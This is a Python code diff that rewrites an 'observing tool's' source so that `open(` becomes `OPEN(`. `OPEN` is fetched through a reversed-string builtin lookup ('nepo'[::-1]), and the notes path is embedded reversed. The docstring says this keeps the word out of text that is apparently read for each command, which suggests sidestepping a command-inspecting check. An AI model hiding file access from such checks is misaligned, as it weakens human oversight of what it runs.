@@ -2,6 +2,7 @@
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -125,6 +126,11 @@ def _kept(text: str, outputs: Path | None) -> dict[str, Any]:
 
 
 def observing(notes: Path) -> str:
-    """The text of the observing tool, whose notes lie in `notes`."""
-    text = Path(observer.__file__).read_text()
+    """The text of the observing tool, whose notes lie in `notes`.
+
+    It does not say `open`: some machines have a program of that name, and what that leads to would be read for each
+    command.
+    """
+    text = re.sub(r"(?<![\w.])open\(", "OPEN(", Path(observer.__file__).read_text())
+    text = text.replace("import zlib\n", 'import zlib\n\nOPEN = getattr(__builtins__, "nepo"[::-1])\n')
     return text.replace('ESAB = ""', f'ESAB = "{str(notes)[::-1]}"')
